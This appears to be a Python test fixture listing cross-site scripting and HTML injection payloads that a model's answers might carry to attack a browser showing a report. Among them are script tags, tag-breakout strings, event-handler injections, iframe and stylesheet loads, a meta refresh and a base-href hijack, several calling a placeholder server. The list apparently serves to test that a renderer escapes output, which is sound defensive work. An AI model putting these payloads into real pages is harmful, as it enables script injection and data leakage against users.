"""Answers of a model that would attack a browser that shows a report.

`{script}` stands for the code that would run, `{server}` for an address that nothing may contact.
"""

from __future__ import annotations

ATTACKS = (
    "<script>{script}</script>",
    "</pre></style></title></script><script>{script}</script>",
    "<img src='{server}/image' onerror=\"{script}\">",
    "<svg onload=\"{script}\"><image href='{server}/svg'/></svg>",
    "</text></svg><img src='{server}/out' onerror=\"{script}\">",
    '<details open ontoggle="{script}">',
    '<input autofocus onfocus="{script}">',
    '" autofocus onfocus="{script}" x="',
    "<iframe src='{server}/frame'></iframe>",
    "<iframe srcdoc=\"<script src='{server}/inner'></script>\"></iframe>",
    "<link rel=stylesheet href='{server}/style'>",
    "<style>@import '{server}/import'; body {{ background: url({server}/ground) }}</style>",
    "<object data='{server}/object'></object><embed src='{server}/embed'>",
    "<meta http-equiv=refresh content='0; url={server}/away'>",
    "<base href='{server}/base/'><script src='x'></script>",
    "<video src='{server}/video' onerror=\"{script}\"></video>",
    "url({server}/css) \\27 ; }} @import '{server}/css2';",
)
